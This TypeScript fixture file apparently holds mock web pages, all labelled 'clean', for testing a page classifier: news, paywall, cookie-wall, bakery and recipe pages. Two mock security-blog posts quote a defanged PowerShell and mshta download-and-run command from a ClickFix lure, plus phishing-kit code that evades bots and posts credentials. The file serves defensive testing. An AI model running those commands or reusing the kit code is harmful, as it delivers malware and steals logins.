import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, tagManager, cookieBanner, adStack, jsRoute, logo } from '../parts/j-kit.js';

const tmLedger = tagManager('tags.ledgerherald-cdn.net', 'GTM-K7PX2QD');
const adsLedger = adStack('ads.ledgerherald-cdn.net');
const tmTagblatt = tagManager('stats.rheinufer-tagblatt-static.de', 'GTM-NR44TB');
const tmRecetas = tagManager('t.cocinadelaabuela-cdn.es', 'GTM-5HGQ2R');
const adsRecetas = adStack('pub.cocinadelaabuela-cdn.es');

export const entries: Entry[] = [
{
  id: 'j-clean-news-adheavy-en',
  label: 'clean',
  kind: 'news-ads',
  url: 'https://www.ledgerherald-news.com/business/2026/11/28/regional-lenders-brace-for-rate-cut',
  body: doc({
    title: 'Regional lenders brace for surprise rate cut as inflation cools | The Ledger Herald',
    head: `${tmLedger.snippet}
${adsLedger.head}
<meta property="og:title" content="Regional lenders brace for surprise rate cut as inflation cools">
<meta property="og:type" content="article">
<link rel="canonical" href="https://www.ledgerherald-news.com/business/2026/11/28/regional-lenders-brace-for-rate-cut">
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"Regional lenders brace for surprise rate cut as inflation cools","datePublished":"2026-11-28T06:12:00Z","author":[{"@type":"Person","name":"Marguerite Olsen"}],"publisher":{"@type":"Organization","name":"The Ledger Herald"}}</script>
<script>window.__LH_CONFIG__={"section":"business","paywall":"metered","freeArticles":5,"adRefresh":30,"abTests":{"hdl":"B","rec":"ctrl"}};</script>`,
    style: `header{border-bottom:3px double #111;padding:10px 24px;display:flex;justify-content:space-between;align-items:center}.mast{font-family:Georgia,serif;font-size:34px;font-weight:700}nav a{margin-right:16px;font-size:14px;text-decoration:none}main{max-width:1100px;margin:0 auto;display:grid;grid-template-columns:1fr 320px;gap:32px;padding:24px}article h1{font-family:Georgia,serif;font-size:38px;line-height:1.15}article p{font-family:Georgia,serif;font-size:18px}.ad{background:#f4f4f4;display:flex;align-items:center;justify-content:center;color:#999;font-size:11px;margin:16px 0}.byline{color:#555;font-size:14px}aside h3{border-top:2px solid #111;padding-top:6px}footer{background:#111;color:#ccc;padding:30px;font-size:13px}`,
    body: `<div class="ad" id="div-gpt-ad-top" style="height:90px;width:728px;margin:8px auto">ADVERTISEMENT</div>
<header><div class="mast">The Ledger Herald</div><nav><a href="/news">News</a><a href="/business">Business</a><a href="/markets">Markets</a><a href="/opinion">Opinion</a><a href="/subscribe" style="background:#c00;color:#fff;padding:6px 10px">Subscribe $1/week</a><a href="/account/login">Sign in</a></nav></header>
<main><article>
<p class="byline"><a href="/business">BUSINESS</a> · Updated Nov. 28, 2026, 6:12 a.m. ET</p>
<h1>Regional lenders brace for surprise rate cut as inflation cools</h1>
<p class="byline">By Marguerite Olsen · 6 min read</p>
<p>Community banks across the Midwest are repricing certificates of deposit ahead of what economists increasingly describe as a near-certain quarter-point cut at next month's meeting, according to a dozen executives interviewed this week.</p>
<p>"We were paying up for deposits all of last year," said Howard Pell, chief financial officer of a $4 billion lender in Des Moines. "Now the question is how fast we can bring that down without losing customers to the online banks."</p>
<div class="ad" id="div-gpt-ad-mpu" style="height:250px">ADVERTISEMENT</div>
<p>Consumer prices rose 2.3 percent in the twelve months through October, the Labor Department said, the smallest annual gain since early 2021. Core inflation, which strips out food and energy, eased to 2.6 percent.</p>
<p>Analysts at several brokerages have trimmed their net-interest-margin forecasts for small lenders, arguing that loan yields will fall faster than funding costs in the first half of next year.</p>
<p>Shares of the KBW regional bank index rose 1.8 percent on Wednesday.</p>
<p><em>Reporting contributed by Dev Anand in New York.</em></p>
<div class="ad" id="div-gpt-ad-bottom" style="height:280px">ADVERTISEMENT</div>
</article>
<aside><h3>Most read</h3><ol><li><a href="/a/1">Housing starts slump to three-year low</a></li><li><a href="/a/2">Why your grocery bill isn't falling</a></li><li><a href="/a/3">The quiet boom in credit-union mergers</a></li><li><a href="/a/4">Opinion: Don't fear the rate cut</a></li></ol>
<h3>Sponsored</h3><p style="font-size:13px"><a href="https://ads.ledgerherald-cdn.net/click?slot=taboola-1" rel="sponsored">Doctors stunned: this 30-second kitchen trick...</a></p><p style="font-size:13px"><a href="https://ads.ledgerherald-cdn.net/click?slot=taboola-2" rel="sponsored">New rule for drivers born before 1970</a></p></aside></main>
<footer>© 2026 The Ledger Herald Media Group. <a href="/privacy">Privacy Policy</a> · <a href="/terms">Terms of Service</a> · <a href="/privacy#ca">Do Not Sell or Share My Personal Information</a></footer>
${cookieBanner('en', 'The Ledger Herald and our partners')}`,
  }),
  routes: { ...tmLedger.routes, ...adsLedger.routes },
},
{
  id: 'j-clean-news-paywall-de',
  label: 'clean',
  kind: 'paywall',
  url: 'https://www.rheinufer-tagblatt.de/region/koeln/stadtrat-beschliesst-neue-parkgebuehren-art-118842',
  body: doc({
    lang: 'de',
    title: 'Stadtrat beschließt neue Parkgebühren – Rheinufer Tagblatt',
    head: tmTagblatt.snippet,
    style: `header{background:#003366;color:#fff;padding:14px 24px;font-family:Georgia,serif;font-size:28px}main{max-width:760px;margin:24px auto;padding:0 16px}.teaser{font-weight:600}.fade{position:relative;max-height:140px;overflow:hidden}.fade:after{content:"";position:absolute;bottom:0;left:0;right:0;height:90px;background:linear-gradient(transparent,#fff)}.pw{border:2px solid #003366;padding:24px;margin-top:10px;text-align:center}.pw button{background:#e30613;color:#fff;border:0;padding:12px 26px;font-size:16px;border-radius:3px}.plus{background:#e30613;color:#fff;font-size:12px;padding:2px 6px;font-family:Arial}`,
    body: `<header>Rheinufer Tagblatt</header>
<main><p><span class="plus">RT+</span> Köln · 28.11.2026, 07:30 Uhr</p>
<h1>Stadtrat beschließt neue Parkgebühren: Anwohnerparken wird deutlich teurer</h1>
<p class="teaser">Nach monatelanger Debatte hat der Kölner Stadtrat am Donnerstagabend die neue Gebührenordnung verabschiedet. Für Anwohnerparkausweise werden künftig bis zu 360 Euro im Jahr fällig.</p>
<div class="fade"><p>Die Mehrheit aus Grünen, CDU und Volt stimmte für den Vorschlag der Verwaltung. Die Opposition kritisierte vor allem die soziale Staffelung, die aus ihrer Sicht nicht weit genug gehe. Wer Wohngeld bezieht, soll einen Nachlass von 50 Prozent erhalten.</p><p>Bislang kostete der Anwohnerparkausweis in Köln 30 Euro pro Jahr ...</p></div>
<div class="pw"><h2>Weiterlesen mit RT+</h2><p>Alle Artikel auf rheinufer-tagblatt.de und in der App. Jederzeit kündbar.</p>
<p><strong>4 Wochen für 0,99 €</strong>, danach 9,99 € monatlich</p>
<button onclick="location.href='/abo/angebot?ref=paywall'">Jetzt testen</button>
<p style="font-size:14px">Bereits Abonnent? <a href="/konto/anmelden?redirect=%2Fregion%2Fkoeln%2Fstadtrat-beschliesst-neue-parkgebuehren-art-118842">Hier anmelden</a></p>
<p style="font-size:12px;color:#555">Zahlung per PayPal, Lastschrift oder Kreditkarte. Preise inkl. MwSt.</p></div>
</main>
<footer style="padding:24px;background:#eee;font-size:13px">Impressum · Datenschutz · AGB · Kündigung · © Rheinufer Medienhaus GmbH &amp; Co. KG</footer>
${cookieBanner('de')}`,
  }),
  routes: { ...tmTagblatt.routes },
},
{
  id: 'j-clean-news-cookiewall-fr',
  label: 'clean',
  kind: 'cookie-wall',
  url: 'https://www.lecourrier-des-alpes.fr/actualite/societe/neige-precoce-les-stations-ouvrent-plus-tot-2026-11-28',
  body: doc({
    lang: 'fr',
    title: 'Neige précoce : les stations ouvrent plus tôt que prévu - Le Courrier des Alpes',
    style: `body.locked{overflow:hidden}.wall{position:fixed;inset:0;background:rgba(0,0,0,.72);display:flex;align-items:center;justify-content:center;z-index:50}.box{background:#fff;max-width:560px;padding:28px;border-radius:6px}.box button{display:block;width:100%;margin:10px 0;padding:12px;font-size:15px;border-radius:4px;border:1px solid #0b3d91}.a{background:#0b3d91;color:#fff}.s{background:#fff;color:#0b3d91}article{max-width:720px;margin:30px auto;filter:blur(3px)}`,
    bodyAttr: 'class="locked"',
    body: `<article><h1>Neige précoce : les stations ouvrent plus tôt que prévu</h1><p>Avec plus de 60 cm tombés en 48 heures au-dessus de 1 800 mètres, plusieurs domaines savoyards avancent leur ouverture au week-end prochain.</p><p>À Val Thorens, les premières remontées mécaniques tourneront dès samedi...</p></article>
<div class="wall"><div class="box"><h2>Le Courrier des Alpes</h2>
<p>Pour accéder gratuitement à nos contenus, acceptez l'utilisation de cookies et technologies similaires par Le Courrier des Alpes et ses <a href="#partenaires">partenaires (148)</a> à des fins de publicité personnalisée, de mesure d'audience et de développement de produits.</p>
<button class="a" onclick="document.body.classList.remove('locked');this.closest('.wall').remove();document.querySelector('article').style.filter='none'">Accepter et continuer</button>
<button class="s" onclick="location.href='/abonnement/sans-pub?origine=cookiewall'">S'abonner sans publicité – 2,99 €/mois</button>
<p style="font-size:12px">Vous pouvez retirer votre consentement à tout moment via le lien « Gérer mes cookies » en bas de page. <a href="/donnees-personnelles">Politique de confidentialité</a>. Déjà abonné ? <a href="/compte/connexion">Se connecter</a></p></div></div>`,
  }),
},
{
  id: 'j-clean-secblog-clickfix-analysis',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://research.northgate-threatlabs.com/blog/2026/11/clickfix-variants-abuse-run-dialog',
  body: doc({
    title: 'ClickFix keeps evolving: new lures abuse the Windows Run dialog | Northgate Threat Labs',
    style: `header{background:#0c1b33;color:#fff;padding:16px 40px}main{max-width:820px;margin:30px auto;padding:0 20px}pre{background:#0f172a;color:#e2e8f0;padding:14px;overflow:auto;font-size:13px;border-radius:6px}.ioc td{border-bottom:1px solid #ddd;padding:4px 8px;font-family:monospace;font-size:13px}figure{border:1px solid #ddd;padding:14px;background:#fafafa}`,
    body: `<header><strong>Northgate Threat Labs</strong> · Research · Advisories · Services · Contact</header>
<main><p>November 24, 2026 · Threat Intelligence Team · 9 min read</p>
<h1>ClickFix keeps evolving: new lures abuse the Windows Run dialog</h1>
<p>Over the past six weeks we tracked more than 1,400 compromised WordPress sites injecting a fake "Verify you are human" widget. Instead of a real CAPTCHA, the visitor is told to press <kbd>Win</kbd>+<kbd>R</kbd>, paste with <kbd>Ctrl</kbd>+<kbd>V</kbd> and hit <kbd>Enter</kbd>. The page has already written a command to the clipboard.</p>
<figure><p><strong>Verification steps</strong><br>1. Press Windows Button "⊞" + R<br>2. Press CTRL + V<br>3. Press Enter</p><figcaption>Figure 1. Text of the lure as shown to victims (defanged screenshot transcription).</figcaption></figure>
<p>The clipboard payload observed in the most common variant:</p>
<pre>powershell -w h -nop -c "iex(iwr 'hxxps://cdn-verify[.]top/s.txt' -UseBasicParsing)" # ✅ I am not a robot - reCAPTCHA ID: 4471</pre>
<p>The trailing comment is what appears in the Run box, so the user sees only the "I am not a robot" text. A second stage drops Lumma Stealer via a DLL sideload of a signed binary. Another cluster uses <code>mshta</code>:</p>
<pre>mshta hxxps://files-check[.]click/verify.hta  # Cloudflare Verification ID 2291</pre>
<h2>Detection</h2><p>Hunt for <code>RunMRU</code> registry entries containing <code>powershell</code>, <code>mshta</code> or <code>curl</code>, and alert on <code>explorer.exe</code> spawning PowerShell with a hidden window.</p>
<h2>Indicators</h2><table class="ioc"><tr><td>cdn-verify[.]top</td><td>stage-1 host</td></tr><tr><td>files-check[.]click</td><td>HTA host</td></tr><tr><td>5f0d3c...e91a</td><td>SHA-256, s.txt</td></tr></table>
<p>Customers of Northgate MDR are protected. Questions: <a href="mailto:intel@northgate-threatlabs.com">intel@northgate-threatlabs.com</a></p></main>
<footer style="background:#0c1b33;color:#aaa;padding:20px 40px;font-size:12px">© 2026 Northgate Security, Inc. · Privacy · Responsible disclosure</footer>`,
  }),
},
{
  id: 'j-clean-secblog-phishkit-teardown',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://blog.halvorsen-sec.no/posts/tearing-down-a-microsoft-365-aitm-kit',
  body: doc({
    title: 'Tearing down a Microsoft 365 AiTM phishing kit — Halvorsen Security Blog',
    style: `main{max-width:760px;margin:40px auto;padding:0 20px;font-family:Georgia,serif}pre{background:#f6f8fa;padding:12px;overflow:auto;font-size:13px;font-family:Menlo,monospace}blockquote{border-left:4px solid #c00;margin:0;padding:4px 16px;background:#fff5f5}`,
    body: `<main><p><a href="/">← Halvorsen Security</a></p><h1>Tearing down a Microsoft 365 AiTM phishing kit</h1><p><em>Posted 2026-11-19 by Ingrid Halvorsen</em></p>
<p>A customer forwarded us an e-mail that read:</p>
<blockquote>Your password for ingrid@example.no expires today. To keep the same password, click below and verify your account. <br>[ Keep Current Password ]</blockquote>
<p>The link led through three redirects (a Google AMP URL, a compromised Brazilian WordPress site and a Cloudflare Workers subdomain) to a pixel-perfect copy of the Microsoft sign-in page. The kit posts credentials to <code>/common/GetCredentialType</code> on its own host, proxies the real login and steals the session cookie.</p>
<pre>var _0x1a2b = atob("aHR0cHM6Ly9sb2dpbi5taWNyb3NvZnRvbmxpbmUuY29t");
if (navigator.webdriver || /HeadlessChrome/.test(navigator.userAgent)) { location.href = "https://www.office.com"; }
fetch("/next.php", {method:"POST", body: JSON.stringify({e: email, p: pass})});</pre>
<p>Note the anti-bot check: headless browsers are sent to the real office.com. The kit also blocks IP ranges of known security vendors via a hard-coded list of ASNs.</p>
<h2>Mitigations</h2><ul><li>Phishing-resistant MFA (FIDO2) defeats the session theft.</li><li>Conditional Access with compliant-device requirements.</li><li>Alert on sign-ins from hosting ASNs right after an e-mail click.</li></ul>
<p>Tags: <a href="/tags/phishing">phishing</a>, <a href="/tags/aitm">aitm</a>, <a href="/tags/m365">m365</a></p></main>`,
  }),
},
{
  id: 'j-clean-coming-soon',
  label: 'clean',
  kind: 'coming-soon',
  url: 'https://www.saltfernbakery.co/',
  body: doc({
    title: 'Saltfern Bakery — Coming Soon',
    style: `body{background:#f7efe3;color:#3b2a1a;display:flex;min-height:100vh;align-items:center;justify-content:center;text-align:center;font-family:Georgia,serif}.cd span{display:inline-block;min-width:70px;font-size:34px}.cd small{display:block;font-size:12px;font-family:Arial}input{padding:10px;border:1px solid #b89b72;width:260px}button{padding:10px 18px;background:#3b2a1a;color:#fff;border:0}`,
    body: `<div><h1 style="font-size:48px;margin:0">Saltfern Bakery</h1><p>Sourdough, seasonal pastries and good coffee. Opening on Harbour Street this winter.</p>
<div class="cd" id="cd"></div>
<form onsubmit="event.preventDefault();this.innerHTML='<p>Thanks! We\\'ll let you know when the ovens are hot.</p>'"><p>Get an invite to our opening weekend:</p><input type="email" placeholder="you@example.com" required> <button>Notify me</button></form>
<p style="font-size:13px">Instagram @saltfernbakery · hello@saltfernbakery.co</p></div>
<script>var e=new Date('2027-01-15T08:00:00');function u(){var d=Math.max(0,e-new Date()),D=Math.floor(d/864e5),H=Math.floor(d/36e5)%24,M=Math.floor(d/6e4)%60;document.getElementById('cd').innerHTML='<span>'+D+'<small>days</small></span><span>'+H+'<small>hours</small></span><span>'+M+'<small>minutes</small></span>'}u();setInterval(u,30000);</script>`,
  }),
},
{
  id: 'j-clean-news-ja',
  label: 'clean',
  kind: 'news-intl',
  url: 'https://www.kitakaze-shimbun.jp/articles/20261128/economy/yen-weakens-exports',
  body: doc({
    lang: 'ja',
    title: '円安進行、輸出企業の業績見通し上方修正相次ぐ｜北風新聞デジタル',
    style: `header{border-bottom:4px solid #b40000;padding:12px 24px;font-size:26px;font-weight:700}main{max-width:760px;margin:20px auto;padding:0 16px}p{font-size:17px;line-height:1.9}.rank li{margin:6px 0}.login{float:right;font-size:13px}`,
    body: `<header>北風新聞デジタル <a class="login" href="/member/login">ログイン</a> <a class="login" href="/member/register" style="margin-right:12px">会員登録（無料）</a></header>
<main><p style="color:#666;font-size:13px">2026年11月28日 9時05分 ・ 経済</p>
<h1>円安進行、輸出企業の業績見通し上方修正相次ぐ</h1>
<p>外国為替市場で円相場は一時1ドル＝158円台まで下落し、約4カ月ぶりの円安水準となった。自動車や電子部品など輸出関連企業では、通期の業績見通しを上方修正する動きが相次いでいる。</p>
<p>一方、輸入物価の上昇を通じて家計の負担が増すとの懸念も根強い。市場関係者の間では、政府・日銀による為替介入への警戒感も高まっている。</p>
<p>この記事は会員限定です。残り1,284文字。<a href="/member/register?from=article">無料会員登録</a>で月5本まで読めます。</p>
<h3>アクセスランキング</h3><ol class="rank"><li>年末調整、今年から変わる3つのポイント</li><li>新幹線、年末年始の予約状況</li><li>ふるさと納税、駆け込み需要で人気の返礼品は</li></ol></main>
<footer style="background:#222;color:#aaa;padding:20px;font-size:12px">Copyright © 北風新聞社 All rights reserved. 記事・写真の無断転載を禁じます。</footer>`,
  }),
},
{
  id: 'j-clean-recipe-blog-es-ads',
  label: 'clean',
  kind: 'news-ads',
  url: 'https://www.cocinadelaabuela.es/recetas/tortilla-de-patatas-jugosa',
  body: doc({
    lang: 'es',
    title: 'Tortilla de patatas jugosa (la receta de siempre) - La Cocina de la Abuela',
    head: `${tmRecetas.snippet}\n${adsRecetas.head}`,
    style: `header{text-align:center;padding:20px;font-family:Georgia,serif;font-size:32px;color:#8b2e16}main{max-width:740px;margin:0 auto;padding:0 16px}.ad{background:#f2f2f2;margin:18px 0;display:flex;align-items:center;justify-content:center;font-size:10px;color:#aaa}.card{border:2px dashed #8b2e16;padding:16px}.jump{background:#8b2e16;color:#fff;padding:8px 16px;border-radius:20px;text-decoration:none}`,
    body: `<header>La Cocina de la Abuela</header>
<div class="ad" id="div-gpt-ad-top" style="height:90px">PUBLICIDAD</div>
<main><h1>Tortilla de patatas jugosa (la receta de siempre)</h1><p><a class="jump" href="#receta">Ir a la receta ↓</a></p>
<p>No hay domingo en casa sin tortilla. Mi abuela Carmen la hacía con cebolla, aunque sé que esto genera debate... Hoy os cuento todos los trucos para que quede jugosa por dentro y dorada por fuera.</p>
<div class="ad" id="div-gpt-ad-mpu" style="height:250px">PUBLICIDAD</div>
<p>El secreto está en pochar la patata a fuego lento, casi confitada, y dejarla reposar con el huevo batido al menos 10 minutos.</p>
<div class="card" id="receta"><h2>Ingredientes (4 personas)</h2><ul><li>800 g de patatas</li><li>6 huevos camperos</li><li>1 cebolla grande</li><li>Aceite de oliva virgen extra</li><li>Sal</li></ul><h2>Preparación</h2><ol><li>Pelar y cortar las patatas en láminas finas.</li><li>Pochar con la cebolla 25 minutos a fuego bajo.</li><li>Escurrir, mezclar con el huevo y reposar.</li><li>Cuajar 3 minutos por cada lado.</li></ol></div>
<div class="ad" id="div-gpt-ad-bottom" style="height:250px">PUBLICIDAD</div>
<p>¿La has probado? ¡Déjame un comentario! ⭐⭐⭐⭐⭐ (1.842 valoraciones)</p></main>
${cookieBanner('es')}`,
  }),
  routes: { ...tmRecetas.routes, ...adsRecetas.routes },
},
{
  id: 'j-clean-news-ko',
  label: 'clean',
  kind: 'news-intl',
  url: 'https://news.hanbit-ilbo.co.kr/article/2026112800231',
  body: doc({
    lang: 'ko',
    title: '수능 성적표 다음 달 5일 배부…국어 어려웠다 | 한빛일보',
    style: `header{background:#0048a0;color:#fff;padding:12px 20px;font-weight:700;font-size:22px}main{max-width:740px;margin:20px auto;padding:0 16px}p{font-size:17px;line-height:1.8}`,
    body: `<header>한빛일보</header><main><p style="color:#777;font-size:13px">입력 2026.11.28 10:21 · 사회</p>
<h1>수능 성적표 다음 달 5일 배부…"국어 어려웠다"</h1>
<p>2027학년도 대학수학능력시험 성적표가 다음 달 5일 수험생들에게 배부된다. 한국교육과정평가원은 이번 수능 국어 영역이 지난해보다 다소 어렵게 출제됐다고 밝혔다.</p>
<p>입시 전문가들은 정시 지원 전략을 세울 때 영역별 표준점수를 꼼꼼히 확인해야 한다고 조언했다.</p>
<p style="font-size:13px">기자 박서연 · 무단전재 및 재배포 금지</p></main>`,
  }),
},
];
